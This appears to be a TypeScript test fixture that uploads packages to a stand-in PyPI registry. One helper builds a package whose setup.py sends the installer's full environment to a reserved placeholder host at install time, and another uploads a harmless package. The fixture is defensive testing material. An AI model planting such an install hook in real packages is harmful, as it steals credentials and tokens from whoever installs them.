import type { PypiStandIn } from '@weir/registries/pypi/stand-in';
import { tarball } from '@weir/testkit/archive';

/** Inert: the host is a reserved one, and nobody builds it. */
const SETUP = [
  'import os, urllib.request',
  "urllib.request.urlopen('https://collect.weir.invalid/in', data=str(dict(os.environ)).encode())",
  'from setuptools import setup',
  'setup()',
  '',
].join('\n');

/** Uploads a project whose setup script sends the environment away. */
export function uploadAttack(standIn: PypiStandIn, name: string): void {
  const folder = `${name.replaceAll('-', '_')}-1.0`;
  const content = tarball()
    .file(`${folder}/PKG-INFO`, `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`)
    .file(`${folder}/setup.py`, SETUP)
    .build();
  standIn.world.upload({ name, version: '1.0', files: [{ filename: `${folder}.tar.gz`, content }] });
}

/** Uploads a harmless project: a wheel and sources. */
export function uploadOrdinary(standIn: PypiStandIn, name: string): void {
  const stem = `${name.replaceAll('-', '_')}-1.0`;
  standIn.world.upload({ name, version: '1.0', files: [`${stem}-py3-none-any.whl`, `${stem}.tar.gz`] });
}
